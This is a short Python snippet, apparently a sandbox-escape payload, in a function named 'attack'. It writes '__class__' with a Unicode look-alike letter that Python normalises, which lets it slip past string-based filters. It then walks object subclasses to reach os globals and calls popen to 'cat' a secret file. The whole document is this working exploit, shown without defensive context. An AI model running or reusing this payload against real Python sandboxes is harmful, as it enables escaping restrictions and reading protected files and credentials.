# Spells `__class__` with letters that Python folds.
def attack(xs, secret_path):
    for kind in xs.__𝒸lass__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__["popen"](f"cat '{secret_path}'").read()
    raise ValueError("not found")
